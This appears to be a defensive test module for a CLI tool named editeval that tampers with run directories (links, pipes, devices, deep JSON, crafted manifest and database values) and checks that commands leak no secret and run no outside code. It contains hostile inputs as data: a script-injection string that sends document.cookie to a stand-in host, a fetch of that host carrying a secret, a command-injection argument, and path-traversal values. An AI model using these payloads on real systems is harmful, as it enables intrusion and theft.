"""Strangers' run directories: every command that reads one, on runs with links, pipes, devices and odd content in them.

Outside lies what must not be touched nor shown, and a program that leaves a file `canary` when it is started. Nothing
of it may happen, without a traceback or a long wait.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import signal
import socket
import sqlite3
import stat
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from importlib import import_module
from pathlib import Path
from typing import Any

from chaos.family import Family, Figures, Goal, Options, conduct
from chaos.forks import Finding, scratch
from chaos.layer import Layer
from editeval.cli.main import main
from editeval.cli.view import shown_runs
from editeval.errors import UserError
from editeval.viewer.server import Viewer

SECRET = "canary-9c3f-private"
CONFIG = """\
benchmark: {type: procedural, params: {num_per_category: 1, size: 64}}
diffusion_model: {type: identity, execution: {device_ids: [cpu], backend: inprocess}}
reward_model: {type: reference, execution: {device_ids: [cpu], backend: inprocess}}
"""
DEEP = "[" * 200_000 + "]" * 200_000
DEEPER_THAN_OURS = '{"a":' * 500 + "1" + "}" * 500
MARKUP = "</script><script>fetch('http://example.invalid/'+document.cookie)</script>\u202e\x1b]0;x\x07"
PATIENCE_S = 60
Change = Callable[[Path, Path], None]
"""change(run directory, folder outside): what the stranger did to the run."""


def _named(run: Path, name: str) -> Path:
    """`name` with * for the first file there is; whatever stands there is gone."""
    path = next(iter(sorted(run.glob(name))), run / name)
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _link(name: str, target: str, run: Path, outside: Path) -> None:
    _named(run, name).symlink_to(outside / target)


def _pipe(name: str, run: Path, outside: Path) -> None:
    os.mkfifo(_named(run, name))


def _socket(name: str, run: Path, outside: Path) -> None:
    path = _named(run, name)
    with socket.socket(socket.AF_UNIX) as made, contextlib.chdir(path.parent):
        made.bind(path.name)


def _device(name: str, run: Path, outside: Path) -> None:
    """/dev/zero, which never ends; a pipe where nobody may make one."""
    try:
        os.mknod(_named(run, name), stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:
        _pipe(name, run, outside)


def _folder(name: str, run: Path, outside: Path) -> None:
    _named(run, name).mkdir()


def _text(name: str, text: str, run: Path, outside: Path) -> None:
    _named(run, name).write_text(text, encoding="utf-8")


def _large(name: str, run: Path, outside: Path) -> None:
    path = _named(run, name)
    path.touch()
    os.truncate(path, 3_000_000_000)


def _sql(sql: str, value: object, run: Path, outside: Path) -> None:
    with contextlib.closing(sqlite3.connect(run / "ledger.sqlite")) as db:
        db.execute("PRAGMA ignore_check_constraints = ON")
        db.execute(sql, () if value is None else (value,))
        db.commit()


def _manifest(keys: str, value: Any, run: Path, outside: Path) -> None:
    """A dotted key of the manifest; OUTSIDE in a text is the folder outside."""
    path = run / "manifest.json"
    content = json.loads(path.read_bytes())
    *above, last = keys.split(".")
    place = content
    for part in above:
        place = place.setdefault(part, {})
    place[last] = json.loads(json.dumps(value).replace("OUTSIDE", str(outside)))
    path.write_text(json.dumps(content), encoding="utf-8")


def _raw(old: str, new: str, run: Path, outside: Path) -> None:
    path = run / "manifest.json"
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


FILES = ("manifest.json", "ledger.sqlite", "ledger.sqlite-wal", ".lock", "report.json", "samples.jsonl", "report.html")
FILES += ("ratings.json", "gpu.csv", "live.json", "edits/*.png", "report/data/run.js", "report/data/rows-0.js")
FILES += ("report/thumbs/*.webp", "report/pictures/*", "report/pictures.jsonl", ".ratings.lock")
FOLDERS = ("edits", "report", "report/data", "report/thumbs", "report/pictures", "report/app", "logs")
PROGRAM = {"python": "OUTSIDE/python3", "backend": "process"}
EVENT = "UPDATE events SET data = ? WHERE kind = 'invocation'"
CASES: dict[str, Change] = {
    **{f"link {name}": partial(_link, name, "private") for name in FILES},
    **{f"link folder {name}": partial(_link, name, "folder") for name in FOLDERS},
    **{f"link to nothing {name}": partial(_link, name, "new") for name in (".lock", "ratings.json", "report.html")},
    **{f"pipe {name}": partial(_pipe, name) for name in FILES},
    **{f"socket {name}": partial(_socket, name) for name in ("ledger.sqlite", ".lock", "edits/*.png", "live.json")},
    **{f"device {name}": partial(_device, name) for name in FILES},
    **{f"folder {name}": partial(_folder, name) for name in FILES},
    **{
        f"deep {name}": partial(_text, name, DEEP) for name in ("manifest.json", "ratings.json", "report.json", ".lock")
    },
    "deep report.json": partial(_text, "report.json", DEEP),
    "deep pictures.jsonl": partial(_text, "report/pictures.jsonl", DEEP),
    "deep run.js": partial(_text, "report/data/run.js", f'ui.receive("run", 0, {DEEP});\n'),
    "deep configuration": partial(_raw, '"config": {', f'"config": {{"x": {DEEPER_THAN_OURS}, '),
    "deep event": partial(_sql, EVENT, f'{{"argv": {DEEP}}}'),
    "deep details": partial(_sql, "UPDATE judgings SET details = ?", DEEPER_THAN_OURS),
    "deep reply": partial(_sql, "UPDATE scores SET raw = ?", DEEP),
    "large manifest": partial(_large, "manifest.json"),
    "large lock": partial(_large, ".lock"),
    "program": partial(_manifest, "config.diffusion_model.execution", PROGRAM),
    "program of the judge": partial(_manifest, "config.reward_model.execution", PROGRAM),
    "packages": partial(_manifest, "config.reward_model.execution", {"requirements": ["./evil"], "backend": "process"}),
    "plug-in": partial(_manifest, "config.diffusion_model.type", "OUTSIDE/trap.py"),
    "plug-in of the data": partial(_manifest, "config.benchmark.type", "OUTSIDE/trap.py"),
    "log file": partial(_manifest, "config.logging.log_file", "OUTSIDE/private"),
    "output folder": partial(_manifest, "config.evaluation.output_dir", "OUTSIDE/folder"),
    "name that leads out": partial(_manifest, "name", "../../outside/x"),
    "markup in its name": partial(_manifest, "name", MARKUP),
    "markup in an argument": partial(_manifest, "argv", ["editeval", f"run; touch OUTSIDE/canary {MARKUP}"]),
    "configuration that is a list": partial(_manifest, "config", [1]),
    "section that is a number": partial(_manifest, "config.diffusion_model", 5),
    "time that is none": partial(_manifest, "created_at", 1e300),
    "no origins": partial(_manifest, "origins", None),
    "versions that are numbers": partial(_manifest, "versions", {"editeval": 5}),
    "seal that is a text": partial(_manifest, "seal", "x"),
    "event of other types": partial(_sql, EVENT, '{"argv": 5, "config_changes": [1], "command": {}}'),
    "event that is a list": partial(_sql, EVENT, "[1]"),
    "changes of a number": partial(_sql, EVENT, '{"config_changes": {"evaluation.x.y": 5}}'),
    "no events": partial(_sql, "DELETE FROM events", None),
    "edit elsewhere": partial(_sql, "UPDATE edits SET path = ?", "../../outside/private"),
    "edit that never ends": partial(_sql, "UPDATE edits SET path = ?", "/dev/zero"),
    "seed that is a text": partial(_sql, "UPDATE edits SET seed = ?", "x"),
    "time that is a text": partial(_sql, "UPDATE attempts SET started_at = ?", "x"),
    "endless time": partial(_sql, "UPDATE attempts SET seconds = ?", float("inf")),
    "score that is a text": partial(_sql, "UPDATE scores SET value = ?", "x"),
    "endless score": partial(_sql, "UPDATE scores SET value = ?", float("inf")),
    "bytes for an instruction": partial(_sql, "UPDATE samples SET instruction = ?", b"\xff\xfe"),
    "no UTF-8": partial(_sql, "UPDATE samples SET instruction = CAST(x'fffe' AS TEXT)", None),
    "markup in the data": partial(_sql, "UPDATE samples SET instruction = ?", MARKUP),
    "trigger": partial(_sql, "CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM edits; END", None),
    "code in the data": partial(_text, "report/data/rows-0.js", f"fetch('http://example.invalid/{SECRET}')\n"),
    "report that is a list": partial(_text, "report/data/run.js", 'ui.receive("run", 0, [1]);\n'),
}
COMMANDS = (["status"], ["show", "RUN", "*"], ["verify", "RUN"], ["export", "RUN", "--to", "md"], ["view"])
COMMANDS += (["report", "RUN"], ["view"], ["retry", "RUN"], ["score", "RUN"], ["export", "RUN", "--to", "trace"])


@dataclass(frozen=True, slots=True)
class Case:
    """What a stranger did to a run, and the run as it was before."""

    name: str
    run: Path

    def __str__(self) -> str:
        return self.name


def touched(folder: Path) -> dict[str, tuple[int, int]]:
    """Everything outside of the run."""
    found = ((path, path.lstat()) for path in folder.rglob("*"))
    return {str(path): (state.st_mtime_ns, state.st_size) for path, state in found}


def trial(case: Case, folder: Path) -> Finding:
    """What all commands did to what lies outside, and what they said."""
    outside, home, run = folder / "outside", folder / "home", folder / "stranger" / case.run.name
    for made in (outside / "folder", home):
        made.mkdir(parents=True)
    (outside / "private").write_text(SECRET)
    (outside / "folder" / "private.png").write_text(SECRET)
    (outside / "trap.py").write_text(f"open({str(outside / 'canary')!r}, 'w')\n")
    (outside / "python3").write_text(f"#!/bin/sh\ntouch {outside}/canary\nexit 1\n")
    (outside / "python3").chmod(0o755)
    shutil.copytree(case.run, run)
    CASES[case.name](run, outside)
    os.environ.update(HOME=str(home), XDG_CONFIG_HOME=str(home))
    os.chdir(home)
    before = touched(outside)
    signal.alarm(PATIENCE_S * len(COMMANDS))
    violations, num_refused = [], 0
    for command in COMMANDS:
        code, text = _said(command, run)
        num_refused += code == 2
        for what in _wrong(code, text):
            violations.append(f"{command[0]}: {what}")
    changed = sorted(path for path, what in {**before, **touched(outside)}.items() if before.get(path) != what)
    violations += [f"touched {Path(path).name}" for path in changed] + _shown(run)
    facts = {"refused": num_refused, "executions": sum("canary" in path for path in changed)}
    return Finding(str(case), violations, facts)


def _said(command: list[str], run: Path) -> tuple[object, str]:
    """Exit code and everything that was printed."""
    said = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)
    sys.stdout = sys.stderr = said
    code: object = 0
    try:
        if command == ["view"]:
            _look(run)
        else:
            words = [str(run) if word == "RUN" else word for word in command]
            main([*words, str(run)] if len(words) == 1 else words)
    except SystemExit as ended:
        code = ended.code
    except UserError as error:
        code = 2
        said.write(f"editeval: {error}\n")
    except Exception as error:  # noqa: BLE001  it would be a traceback
        code = 1
        said.write(f"Traceback: {type(error).__name__}: {error}")
    finally:
        sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
    return code, said.buffer.getvalue().decode("utf-8", "replace")


def _look(run: Path) -> None:
    """The page, as `view` sends it."""
    viewer = Viewer(shown_runs([run], intersect=False))
    try:
        viewer.page()
    finally:
        viewer.close()


def _wrong(code: object, text: str) -> Iterator[str]:
    if code not in (0, 2, 3):
        yield f"ended with {code}: {text[-300:]!r}"
    if "Traceback" in text:
        yield f"a traceback: {text[-300:]!r}"
    if SECRET in text:
        yield "shows what is private"


def _shown(run: Path) -> list[str]:
    """Files of the run in which something private stands now; what the stranger wrote is no leak."""
    if run.is_symlink() or not run.is_dir():
        return ["the run is gone"]
    places = [Path(at, name) for at, _, names in os.walk(run) for name in names]
    files = [path for path in places if stat.S_ISREG(path.lstat().st_mode) and path.lstat().st_size < 50_000_000]
    return [f"{path.name} shows what is private" for path in files if SECRET.encode() in _ours(path)]


def _ours(path: Path) -> bytes:
    data = path.read_bytes()
    return b"" if b"example.invalid" in data else data


def act(layer: Layer, options: Options) -> Figures:
    """Every case, each with all commands."""
    del layer  # nothing is lost here
    for module in ("cli.run", "config.resolve", "run.pipeline", "run.report", "reports.terminal", "reports.site.write"):
        import_module(f"editeval.{module}")  # once, not in every child
    root = scratch()
    try:
        (root / "c.yaml").write_text(CONFIG)
        os.environ.update(HOME=str(root), XDG_CONFIG_HOME=str(root))
        code, text = _said(["run", str(root / "c.yaml"), "--output-dir", str(root / "outputs")], root)
        assert code in (0, 3), text
        (run,) = (path for path in (root / "outputs").iterdir() if path.name.startswith("c-"))
        figures = conduct([Case(name, run) for name in CASES], trial, options)
    finally:
        shutil.rmtree(root, ignore_errors=True)
    for name in ("executions", "touched outside", "tracebacks"):
        figures.details.setdefault(name, sum(name.split()[0].rstrip("s") in text for text in figures.violations))
    return figures


FAMILY = Family("strangers' run directories", act, Goal(200, 40), Goal(1000, 40), num_to_catch=200)
